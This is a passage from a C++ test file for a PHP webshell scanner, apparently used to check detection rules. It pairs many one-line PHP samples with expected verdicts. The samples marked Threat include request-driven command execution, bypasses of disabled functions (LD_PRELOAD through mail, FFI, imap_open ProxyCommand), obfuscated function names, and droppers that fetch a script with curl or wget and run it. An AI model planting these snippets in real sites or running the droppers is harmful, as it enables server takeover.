       "<?php exec(escapeshellcmd('/usr/bin/zmu -m ' . $_GET['id'] . ' -q'), $out);", Verdict::Clean},
      {"request program escaped as an argument", "<?php passthru(escapeshellarg($_GET['p']) . ' -v');",
       Verdict::Threat},
      // A shell's or an interpreter's script is a command, escaped or not.
      {"shell script from the request escaped whole",
       "<?php system(escapeshellcmd('sh -c ' . $_GET['c']));", Verdict::Threat},
      {"shell script from the request escaped in double quotes",
       "<?php exec(escapeshellcmd('/bin/bash -c \"' . $_COOKIE['c'] . '\"'), $o);", Verdict::Threat},
      {"perl script from the request escaped as an argument",
       "<?php $c = escapeshellarg($_POST['code']); passthru(\"perl -e $c\");", Verdict::Threat},
      {"python and php code from the request escaped as arguments",
       "<?php echo shell_exec('python3 -c ' . escapeshellarg($_REQUEST['p']));\n"
       "$h = popen('php -r ' . escapeshellarg($_GET['r']), 'r');",
       Verdict::Threat},
      {"fixed shell script handed an escaped request argument",
       "<?php exec('sh -c ' . escapeshellarg('gzip -c ' . escapeshellarg($_GET['f']) . ' > out.gz'));",
       Verdict::Clean},
      {"search pattern from the request escaped for grep",
       "<?php exec('grep -e ' . escapeshellarg($_GET['q']) . ' notes.txt', $lines);", Verdict::Clean},
      {"file from the request checked by the php linter",
       "<?php exec('php -l ' . escapeshellarg($_FILES['f']['tmp_name']), $out);", Verdict::Clean},
      {"function name hidden behind an undefined constant",
       "<?php $a = str_replace(x, '', 'axsxsxexrxt'); $a($_POST['z']);", Verdict::Threat},
      // Commands past the functions the server disabled, and droppers.
      {"shell started by pcntl_exec with request arguments",
       "<?php pcntl_exec('/bin/sh', array('-c', $_POST['c']));", Verdict::Threat},
      {"program of a variable handed a request script by pcntl_exec",
       "<?php $args = array('-c', $_POST['c']); pcntl_exec($prog, $args);", Verdict::Threat},
      {"pcntl_exec handed the request array as its arguments", "<?php pcntl_exec('/usr/bin/env', $_GET);",
       Verdict::Threat},
      {"pcntl_exec of a fixed program with fixed arguments",
       "<?php pcntl_exec('/usr/bin/convert', array('in.png', '-resize', '50%', 'out.png'));", Verdict::Clean},
      {"pcntl_exec of a shell with a fixed script", "<?php pcntl_exec('/bin/sh', array('-c', 'uptime'));",
       Verdict::Clean},
      {"pcntl_exec of an interactive shell", "<?php pcntl_exec('/bin/bash', array('-i'));", Verdict::Threat},
      {"mail program options from the request",
       "<?php mb_send_mail('a@example.com', 's', 'm', '', $_POST['opt']);", Verdict::Threat},
      {"mail program told to write its log into the site",
       "<?php mail('a@example.com', 's', '<?php eval($_POST[1]); ?>', '', '-OQueueDirectory=/tmp -X/var/www/x.php');",
       Verdict::Threat},
      {"mail sent with a fixed sender", "<?php mail($to, 'Order', $body, $headers, '-forders@example.com');",
       Verdict::Clean},
      {"library preloaded into the mail program",
       "<?php putenv('LD_PRELOAD=' . __DIR__ . '/x.so'); mail('a@example.com', '', '', '');", Verdict::Threat},
      {"C command function declared through FFI",
       "<?php $f = FFI::cdef('int system(const char *command);'); $f->system('id');", Verdict::Threat},
      {"native function declared through FFI", "<?php $f = FFI::cdef('int abs(int j);', 'libc.so.6');",
       Verdict::Suspicious},
      {"PHP settings written to run a file the request names",
       "<?php file_put_contents('.user.ini', 'auto_prepend_file=' . $_GET['f']);", Verdict::Threat},
      {"PHP settings written to run a firewall of the site's own",
       "<?php file_put_contents('.user.ini', 'auto_prepend_file=' . __DIR__ . '/waf.php');", Verdict::Clean},
      {"request data appended to a PHP file through the error log", "<?php error_log($_POST['c'], 3, 'x.php');",
       Verdict::Threat},
      {"request data appended to a log file",
       "<?php error_log('login failed: ' . $_POST['user'], 3, '/var/log/app.log');", Verdict::Clean},
      {"address fetched whole from the request", "<?php $c = curl_init($_GET['u']); curl_exec($c);",
       Verdict::Suspicious},
      {"fixed address fetched with a request value in its query",
       "<?php $c = curl_init('https://api.example.com/geo?ip=' . $_GET['ip']); curl_exec($c);", Verdict::Clean},
      {"closure made of a command function", "<?php $f = Closure::fromCallable('system'); $f($_GET['c']);",
       Verdict::Threat},
      {"closure made of a text function", "<?php $f = Closure::fromCallable('strtoupper'); echo $f($name);",
       Verdict::Clean},
      {"function the request names, called without arguments", "<?php $_GET['f']();", Verdict::Threat},
      {"function the request names, called with a fixed argument", "<?php $_POST['f']('id');", Verdict::Threat},
      {"function and argument from a request array whose name is built at run time",
       "<?php ${'_' . $_}['_'](${'_' . $_}['__']);", Verdict::Threat},
      {"a request array picked by a fixed method name",
       "<?php $m = 'POST'; $in = ${'_' . $m}; echo htmlspecialchars($in['name']);", Verdict::Clean},
      {"PHP extension loaded from a name the request gives", "<?php dl($_GET['so']);", Verdict::Threat},
      {"PHP extension loaded by a fixed name", "<?php if (!extension_loaded('gd')) { dl('gd.so'); }", Verdict::Clean},
      {"code the request writes into a data address, included",
       "<?php include 'data://text/plain;base64,' . $_GET['p'];", Verdict::Threat},
      {"command function registered as an SQL function",
       "<?php $db = new SQLite3(':memory:'); $db->createFunction('x', 'system'); $db->query('select 1');",
       Verdict::Threat},
      {"text function registered as an SQL function",
       "<?php $db = new PDO('sqlite:app.db'); $db->sqliteCreateFunction('regexp', 'preg_match', 2);", Verdict::Clean},
      {"command from the request run through the expect extension",
       "<?php $p = expect_popen($_POST['c']); fpassthru($p);", Verdict::Threat},
      {"mailbox opened with a proxy command",
       "<?php imap_open('{x:143/imap}-oProxyCommand=`echo aWQ= | base64 -d | sh`', '', '');", Verdict::Threat},
      {"mailbox of the site's own mail server",
       "<?php $m = imap_open('{mail.example.com:993/imap/ssl}INBOX', $user, $pass);", Verdict::Clean},
      {"script fetched and piped into a shell", "<?php exec('curl -s http://example.invalid/i.sh | sh');",
       Verdict::Threat},
      {"program fetched into the temporary folder and run",
       "<?php system('cd /tmp; wget http://example.invalid/x.pl; perl x.pl');", Verdict::Threat},
      // Names hidden from a reader of the source.
      {"function names kept encoded in a table",
       "<?php $GLOBALS['_t'] = array(base64_decode('c3RybGVu'), base64_decode('dHJpbQ=='), "
       "base64_decode('Y291bnQ=')); echo $GLOBALS['_t'][0]('x');",
       Verdict::Suspicious},
      {"command read through the filter extension",
       "<?php $c = filter_input(INPUT_POST, 'c'); passthru($c);", Verdict::Threat},
      {"code read through the filter extension",
       "<?php $in = filter_input_array(INPUT_COOKIE); eval($in['p']);", Verdict::Threat},
      {"command function padded with a vertical tab",
       "<?php $f = trim(\"\\x0bsystem\\x0b\"); $f($_GET['c']);", Verdict::Threat},
      {"function named by text the request completes", "<?php $f = 'as' . $_GET['x']; $f($_POST['y']);",
       Verdict::Threat},
      {"function named by text around request data", "<?php ('sys' . $_COOKIE['t'] . 'em')($_COOKIE['c']);",
       Verdict::Threat},
      {"method the request names on the script's object",
       "<?php call_user_func(array($this, 'on' . $_GET['event']), $_POST['data']);", Verdict::Clean},
      {"command function named as the global one", "<?php \\passthru($_REQUEST['c']);",
       Verdict::Threat},
      {"name built by XOR next to a concatenation",
       "<?php $f = 'SYSTEM' ^ '   ' . '   '; $f($_POST['c']);", Verdict::Threat},
      {"name inverted as a whole group",
       "<?php $f = ~(\"\\x8c\\x86\\x8c\" . \"\\x8b\\x9a\\x92\"); $f($_POST['c']);", Verdict::Threat},
      {"name built by XOR of texts made in different statements",
       "<?php $p = 'SYS'; $q = '   '; $p .= 'TEM'; $q .= '   '; $n = $p ^ $q; $n($_GET['z']);",
       Verdict::Threat},
      {"command kept in an object's field",
       "<?php class K { public $c; function __construct() { $this->c = $_POST['c']; } "
       "function run() { system($this->c); } } $k = new K(); $k->run();",
       Verdict::Threat},
      {"name decoded by an endless loop with a break",
       "<?php $s = 'tztufn'; $o = ''; $i = 0; while (true) { if ($i >= strlen($s)) break; "
       "$o .= chr(ord($s[$i]) - 1); $i++; } $o($_GET['c']);",
       Verdict::Threat},
      {"name decoded by a do-while loop",
       "<?php $s = 'tztufn'; $j = 0; $p = ''; do { $p .= chr(ord($s[$j]) - 1); $j++; } "
       "while ($j < strlen($s)); $p($_GET['d']);",
       Verdict::Threat},
      {"name decoded with a key cycled by the remainder",
       "<?php $k = 'abc'; $s = \"\\x12\\x1b\\x10\\x15\\x07\\x0e\"; $o = ''; "
       "for ($i = 0; $i < strlen($s); $i++) $o .= chr(ord($s[$i]) ^ ord($k[$i % strlen($k)])); "
       "$o($_GET['c']);",
       Verdict::Threat},
      // Decoded statements are code wherever they go; code rebuilt from its
      // tokens or a name joined by each() is followed.
      {"decoded statements written to a file and included",
       "<?php $p = base64_decode('JGMgPSAkX1BPU1RbImMiXTsgc3lzdGVtKCRjKTs='); $t = tempnam('/tmp', 'x'); "
       "$h = fopen($t, 'w'); fwrite($h, $p); fclose($h); include $t;",
       Verdict::Threat},
      {"decoded statements handed on through an array",
       "<?php $p = base64_decode('JGMgPSAkX1BPU1RbImMiXTsgc3lzdGVtKCRjKTs='); $m = array($p); "
       "register_shutdown_function($n, $m[0]);",
       Verdict::Threat},
      {"code rebuilt from its tokens and evaluated",
       "<?php $src = '$x = $_POST[\"c\"]; system($x);'; $out = ''; "
       "foreach (token_get_all($src) as $t) { $out .= is_array($t) ? $t[1] : $t; } eval($out);",
       Verdict::Threat},
      {"a name joined by a loop over each()",
       "<?php $a = array('sys', 'tem'); $s = ''; while (list(, $v) = each($a)) { $s .= $v; } "
       "$s($_GET['x']);",
       Verdict::Threat},
  };
  for (const Row& r : rows) {
    SCOPED_TRACE(r.technique);
    EXPECT_STREQ(name_of(scan_text(r.script)), name_of(r.expected));
  }
}

TEST_F(DefaultRules, LookalikesStayClean) {
  const std::string dir = QZ_SOURCE_DIR "/tests/rules/lookalikes";
  std::vector<std::string> names;
  if (DIR* d = opendir(dir.c_str())) {
    while (dirent* e = readdir(d)) {
      std::string n = e->d_name;
      if (n.size() > 4 && n.compare(n.size() - 4, 4, ".php") == 0) names.push_back(n);
    }
    closedir(d);
  }
  std::sort(names.begin(), names.end());
  ASSERT_GE(names.size(), kMinLookalikes) << dir;
  for (const std::string& n : names) {
    SCOPED_TRACE(n);
    EXPECT_STREQ(name_of(scan_path(dir + "/" + n)), "clean");
  }
}

}  // namespace
